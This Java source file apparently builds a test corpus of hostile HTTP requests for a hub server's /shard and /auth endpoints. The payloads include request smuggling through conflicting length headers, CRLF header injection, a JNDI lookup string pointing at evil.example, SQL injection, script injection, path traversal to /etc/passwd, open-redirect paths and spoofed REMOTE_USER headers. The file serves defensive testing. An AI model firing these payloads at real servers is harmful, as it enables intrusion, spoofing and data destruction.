package dev.sharder.examples.hub.server;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Requests of attackers: bad values, each in every field, and others that have broken servers. A
 * character stands for a byte. None asks for more than one answer.
 */
public final class HostileRequests {

  /** The user of a request that is hidden in the body of another. */
  public static final String SMUGGLED = "smuggled";

  /** Begins the header that no answer may have. */
  public static final String INJECTED = "X-Injected";

  private static final int MEGABYTE = 1_000_000;
  private static final int MANY = 10_000;

  private static final List<String> ENDPOINTS = List.of("/shard", "/auth");

  /** Ends a body in chunks, and is followed by what would be a request if it were no body. */
  private static final String SECOND =
      "0\r\n\r\nGET /shard HTTP/1.1\r\nHost: x\r\nREMOTE_USER: " + SMUGGLED + "\r\n\r\n";

  private enum Field {
    METHOD,
    PATH,
    QUERY,
    USER,
    HOST,
    COOKIE,
    ORIGINAL_URI,
    UNKNOWN_NAME,
    UNKNOWN_VALUE
  }

  private HostileRequests() {}

  private static String request(String endpoint, Map<Field, String> fields) {
    return fields.getOrDefault(Field.METHOD, "GET")
        + (" " + endpoint + fields.getOrDefault(Field.PATH, ""))
        + ("?" + fields.getOrDefault(Field.QUERY, "a=1") + " HTTP/1.1\r\n")
        + ("Host: " + fields.getOrDefault(Field.HOST, "evil.example") + "\r\n")
        + ("Cookie: " + fields.getOrDefault(Field.COOKIE, "hub=hub-9") + "\r\n")
        + ("X-Original-URI: " + fields.getOrDefault(Field.ORIGINAL_URI, "/lab") + "\r\n")
        + fields.getOrDefault(Field.UNKNOWN_NAME, "X-Unknown")
        + (": " + fields.getOrDefault(Field.UNKNOWN_VALUE, "x") + "\r\n")
        + ("REMOTE_USER: " + fields.getOrDefault(Field.USER, "ada") + "\r\n")
        + "Connection: close\r\n\r\n";
  }

  /** Each value in each field, once instead of what belongs there and once in the middle of it. */
  private static List<String> inEveryField(List<String> values) {
    List<String> requests = new ArrayList<>();
    for (String endpoint : ENDPOINTS) {
      for (Field field : Field.values()) {
        for (String value : values) {
          requests.add(request(endpoint, Map.of(field, value)));
          requests.add(request(endpoint, Map.of(field, "/a" + value + "b")));
        }
      }
    }
    return requests;
  }

  public static List<String> controlCharacters() {
    IntStream controls = IntStream.rangeClosed(0, 0x9f).filter(Character::isISOControl);
    return inEveryField(
        controls.mapToObj(Character::toString).flatMap(c -> Stream.of(c, utf8(c))).toList());
  }

  public static List<String> encodings() {
    List<String> percent =
        List.of("%", "%4", "%zz", "%%", "%00", "%u0041", "%c0%ae%c0%ae/", "%ff", "%ed%a0%80");
    List<String> overlong =
        List.of("\u00c0\u00af", "\u00e0\u0080\u00af", "\u00f0\u0080\u0080\u00af", "\u00c1\u0081");
    List<String> malformed =
        List.of("\u00ff", "\u00fe", "\u00c3", "\u00e2\u0082", "\u00bf", "\u00f4\u0090\u0080\u0080");
    List<String> halfPairs =
        List.of("\u00ed\u00a0\u0080", "\u00ed\u00bf\u00bf", "\u00ed\u00a0\u00bd\u00ed\u00b8\u0080");
    return inEveryField(
        Stream.of(percent, overlong, malformed, halfPairs).flatMap(List::stream).toList());
  }

  public static List<String> injections() {
    String header = INJECTED + ": yes";
    String line = "2026-11-23T00:00:00.000Z INFO  UserHandler: new hub-9 in 0.001 ms for user eve";
    return inEveryField(
        Stream.of(
                "\r\n" + header,
                "\n" + header,
                "\r" + header,
                "%0d%0a" + header,
                "%0a" + header,
                "\\r\\n" + header,
                utf8("\u0085" + header),
                utf8("\u2028" + header),
                // Their lower bytes are a line break, for programs that cut characters down to
                // bytes.
                utf8("\u560d\u560a" + header),
                "\n" + line,
                "\r\n" + line,
                "\u0085" + line,
                utf8("\u2029" + line),
                "\u001b[2J" + line,
                "${jndi:ldap://evil.example/x}{}%n%msg")
            .toList());
  }

  public static List<String> names() {
    return inEveryField(
        Stream.of(
                "\u202eada\u202c",
                "\u2066ada",
                "\u200fada",
                "\u200b",
                "ada\u200d",
                "\ufeffada",
                "\ud83d\udc69\u200d\ud83d\ude80",
                "\uffff",
                "\udbff\udfff",
                "z" + "\u0301".repeat(200),
                "\u00a0",
                "\u3000",
                "\u0130".repeat(200),
                "x".repeat(255),
                "x".repeat(256),
                "x".repeat(10_000),
                "\ud83d\ude00".repeat(255),
                "\ud83d\ude00".repeat(256),
                "'; DROP TABLE sharder_assignment; --",
                "\"\\<script>alert(1)</script>",
                "../../etc/passwd",
                "ada, eve",
                "ada;eve")
            .map(HostileRequests::utf8)
            .toList());
  }

  /**
   * As the target, as what follows the sharder's own path, and as what nginx says was asked for.
   */
  public static List<String> paths() {
    List<String> requests = new ArrayList<>();
    for (String path : leadingAway()) {
      requests.add("GET " + path + " HTTP/1.1\r\nREMOTE_USER: ada\r\nConnection: close\r\n\r\n");
      for (String endpoint : ENDPOINTS) {
        requests.add(request(endpoint, Map.of(Field.PATH, path, Field.ORIGINAL_URI, "")));
        requests.add(request(endpoint, Map.of(Field.PATH, "/" + path, Field.ORIGINAL_URI, "")));
        requests.add(request(endpoint, Map.of(Field.ORIGINAL_URI, path)));
        requests.add(request(endpoint, Map.of(Field.ORIGINAL_URI, "/shard" + path)));
      }
    }
    return requests;
  }

  private static List<String> leadingAway() {
    Stream<String> usual =
        Stream.of(
            "//evil.example",
            "///evil.example",
            "/\\evil.example",
            "\\\\evil.example",
            "\\/evil.example",
            "/.//evil.example",
            "/..//evil.example",
            "/shard//evil.example",
            "/shard/\\evil.example",
            "/shard/..//evil.example",
            "/shard/shard//evil.example",
            "/%0d%0aSet-Cookie:x",
            "/%5cevil.example",
            "/%2fevil.example",
            "/%09/evil.example",
            "/;//evil.example",
            "/?//evil.example",
            "/#//evil.example",
            "/@evil.example",
            "@evil.example",
            ".evil.example",
            "https://evil.example/shard",
            "https:evil.example",
            "https:/evil.example",
            "http:///evil.example",
            "javascript:alert(1)",
            "data:text/html,x",
            "",
            "?",
            "#",
            "*",
            "evil.example:443");
    Stream<String> broken =
        Stream.of("\t", "\n", "\r", "\0", "\u000b", "\f", " ", "\u0085", utf8("\u2028"), "\u00ff")
            .flatMap(
                c ->
                    Stream.of(
                        "/" + c + "/evil.example",
                        c + "//evil.example",
                        "//" + c + "evil.example"));
    return Stream.concat(usual, broken).toList();
  }

  /** What servers and proxies have read differently from each other. */
  public static List<String> framing() {
    List<String> requests = new ArrayList<>();
    for (String endpoint : ENDPOINTS) {
      oddHeaders().forEach(header -> requests.add(post(endpoint, header, "")));
      doubtfulLengths().forEach(header -> requests.add(post(endpoint, header, SECOND)));
      String chunked = "Transfer-Encoding: chunked";
      oddChunks().forEach(chunks -> requests.add(post(endpoint, chunked, chunks)));
      brokenChunks().forEach(chunks -> requests.add(post(endpoint, chunked, chunks + SECOND)));
      String plain = request(endpoint, Map.of());
      Stream.of("\n", "\r", "\n\r", "\r\r\n", "\0\r\n", " \r\n")
          .forEach(end -> requests.add(plain.replace("\r\n", end)));
      Stream.of("\r\n", "\n", " ", "\t", "\0", "\u00ef\u00bb\u00bf", "\r\n".repeat(MANY))
          .forEach(start -> requests.add(start + plain));
      IntStream.rangeClosed(0, plain.length())
          .forEach(length -> requests.add(plain.substring(0, length)));
    }
    return requests;
  }

  private static String post(String endpoint, String header, String body) {
    return "POST %s HTTP/1.1\r\nHost: x\r\nREMOTE_USER: ada\r\n%s\r\n\r\n%s"
        .formatted(endpoint, header, body);
  }

  private static List<String> oddHeaders() {
    return List.of(
        "REMOTE_USER: eve",
        "remote_user: eve",
        "REMOTE_USER:",
        "REMOTE_USER: eve\r\nREMOTE_USER: eve",
        "REMOTE_USER : eve",
        "REMOTE_USER\t: eve",
        " REMOTE_USER: eve",
        "REMOTE_USER",
        "REMOTE_USER\0: eve",
        ": eve",
        ":",
        " ",
        "X-Unknown: x\r\n REMOTE_USER: eve",
        "X-Unknown: x\r\n\tfolded",
        "X-Unknown:\r\n \r\n folded",
        "X-Original-URI: //evil.example",
        "X-Original-URI: /lab\r\n //evil.example",
        "X-Original-URI:\r\n //evil.example",
        "Host: evil.example",
        "Host:",
        "Expect: 100-continue",
        "Expect: the worst",
        "Connection: REMOTE_USER",
        "Upgrade: websocket\r\nConnection: Upgrade",
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        "X-HTTP-Method-Override: DELETE",
        "Range: bytes=0-0,-1,1-0",
        "If-Modified-Since: tomorrow",
        "Accept-Encoding: gzip;q=2, *;q=-1",
        "Forwarded: for=\"_x\";host=evil.example\r\nX-Forwarded-Host: evil.example");
  }

  /** What follows them is never a request, because the end of the body is in doubt. */
  private static List<String> doubtfulLengths() {
    return List.of(
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Transfer-Encoding: chunked\r\nContent-Length: 0",
        "Content-Length: 0\r\nContent-Length: 5",
        "Content-Length: 5\r\nContent-Length: 0",
        "Content-Length: -1",
        "Content-Length: -0",
        "Content-Length: +5",
        "Content-Length: 5 5",
        "Content-Length: 5, 0",
        "Content-Length: 0x10",
        "Content-Length: 1e3",
        "Content-Length:",
        "Content-Length: 99999999999999999999",
        "Content-Length: 18446744073709551621",
        "Content-Length: 9223372036854775807",
        "Content-Length: 9223372036854775808",
        "Content-Length: 1000000000000",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: \u000bchunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: gzip, chunked\r\nContent-Length: 5");
  }

  private static List<String> oddChunks() {
    return List.of(
        "0\r\n\r\n",
        "5\nhello\n0\n\n",
        "5;a=\"b\r\nhello\r\n0\r\n\r\n",
        "5;" + "x".repeat(MEGABYTE) + "\r\nhello\r\n0\r\n\r\n",
        "0\r\nREMOTE_USER: eve\r\n\r\n",
        "0\r\nX-Trailer:\0\r\n\r\n",
        "0\r\n" + "X-Trailer: x\r\n".repeat(MANY) + "\r\n",
        "1\r\nx\r\n".repeat(MANY) + "0\r\n\r\n",
        "5\r\nhel");
  }

  private static List<String> brokenChunks() {
    return List.of(
        "zz\r\n",
        "-1\r\n",
        "-0\r\n\r\n",
        "0x0\r\n\r\n",
        "\r\n",
        " \r\n",
        "1\r\nabc\r\n0\r\n\r\n",
        "ffffffffffffffff\r\n",
        "7fffffffffffffff\r\n",
        "10000000000000000\r\n\r\n",
        "100000000\r\n\r\n",
        "\0\r\n\r\n");
  }

  public static List<String> firstLines() {
    List<String> requests = new ArrayList<>();
    String rest = "\r\nHost: x\r\nREMOTE_USER: ada\r\nConnection: close\r\n\r\n";
    for (String endpoint : ENDPOINTS) {
      for (String version : versions()) {
        requests.add("GET " + endpoint + version + rest);
      }
      for (String method : methods()) {
        requests.add(method + " " + endpoint + " HTTP/1.1" + rest);
      }
    }
    for (String method : List.of("GET", "OPTIONS", "CONNECT", "POST")) {
      for (String target : targets()) {
        requests.add(method + " " + target + " HTTP/1.1" + rest);
        requests.add(method + " " + target + " HTTP/1.0" + rest);
      }
    }
    requests.addAll(notHttp());
    return requests;
  }

  private static List<String> versions() {
    return List.of(
        "",
        " ",
        " HTTP/0.9",
        " HTTP/1.0",
        " HTTP/1.2",
        " HTTP/2.0",
        " HTTP/3.7",
        " HTTP/9999999999.1",
        " HTTP/-1.1",
        " HTTP/1.",
        " HTTP/1.1 ",
        " HTTP/1.1 GET",
        " HTTP/1.1\0",
        " http/1.1",
        " HTP/1.1",
        " ICAP/1.0",
        "  HTTP/1.1",
        "\tHTTP/1.1",
        "\u000bHTTP/1.1");
  }

  private static List<String> methods() {
    return List.of(
        "",
        "get",
        "HEAD",
        "TRACE",
        "CONNECT",
        "OPTIONS",
        "PROPFIND",
        "G E T",
        "GET\t",
        "GET\0",
        "GET:",
        "G\u00c9T",
        "-1",
        "X".repeat(MANY));
  }

  private static List<String> targets() {
    return List.of(
        "*",
        "/",
        "shard",
        "evil.example:443",
        "evil.example",
        "http://evil.example",
        "http://evil.example/shard",
        "http://evil.example//shard//evil.example",
        "http://evil.example:99999/shard",
        "http://[::1/shard",
        "http:///shard",
        "http:/shard",
        "http://x@y@z/shard",
        "javascript://evil.example/shard",
        "://shard",
        "/shard/../../../etc/passwd",
        "/shard;a=b;c",
        "/shard;/x",
        "/shard/;jsessionid=1/x",
        "/%73hard",
        "/SHARD",
        "/shard%00",
        "/shard%2f",
        "/auth;x",
        "/auth?x#y",
        "/auth/../shard");
  }

  private static List<String> notHttp() {
    return List.of(
        "",
        "\0".repeat(100),
        "\r\n".repeat(1_000),
        "\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003" + "x".repeat(500),
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0",
        "PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\nGET /shard HTTP/1.1\r\nREMOTE_USER: ada\r\n\r\n",
        "SSH-2.0-OpenSSH_9.2\r\n",
        "HELO evil.example\r\nMAIL FROM:<eve>\r\n",
        "HTTP/1.1 302 Found\r\nLocation: //evil.example\r\n\r\n");
  }

  /** More of everything than anybody needs. */
  public static List<String> sizes() {
    List<String> requests = new ArrayList<>();
    for (String endpoint : ENDPOINTS) {
      for (Field field : Field.values()) {
        for (int length : List.of(8_191, 16_384, 65_536, MEGABYTE, 3 * MEGABYTE)) {
          requests.add(request(endpoint, Map.of(field, "/" + "x".repeat(length))));
        }
      }
      Stream.of("/a", "//", "/..", ";a=b")
          .forEach(part -> requests.add(request(endpoint, Map.of(Field.PATH, part.repeat(MANY)))));
      requests.add(request(endpoint, Map.of(Field.QUERY, "a=1&".repeat(MANY))));
      requests.add(request(endpoint, Map.of(Field.COOKIE, "a=1; ".repeat(MANY))));
      for (String header :
          List.of("X-Unknown: x\r\n", "REMOTE_USER: ada\r\n", "x:\r\n", " x\r\n")) {
        requests.add(post(endpoint, header.repeat(MANY), ""));
      }
      requests.add(post(endpoint, "Content-Length: " + MEGABYTE, "x".repeat(MEGABYTE)));
      requests.add(post(endpoint, "Content-Length: 10", "x".repeat(MEGABYTE)));
    }
    return requests;
  }

  /** Requests as browsers send them, with some bytes changed, lost, doubled or swapped. */
  public static List<String> mutations(long seed) {
    Random random = new Random(seed);
    return IntStream.range(0, 2_000).mapToObj(i -> mutated(random)).toList();
  }

  private static String mutated(Random random) {
    StringBuilder request =
        new StringBuilder(request(ENDPOINTS.get(random.nextInt(ENDPOINTS.size())), Map.of()));
    for (int i = random.nextInt(6); i >= 0; i--) {
      int at = random.nextInt(request.length());
      int end = Math.min(request.length(), at + 1 + random.nextInt(10));
      switch (random.nextInt(4)) {
        case 0 -> request.setCharAt(at, (char) random.nextInt(256));
        case 1 -> request.delete(at, at + 1);
        case 2 -> request.insert(at, request.substring(at, end));
        default -> request.insert(random.nextInt(request.length()), (char) random.nextInt(256));
      }
    }
    return request.toString();
  }

  private static String utf8(String text) {
    return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
  }
}
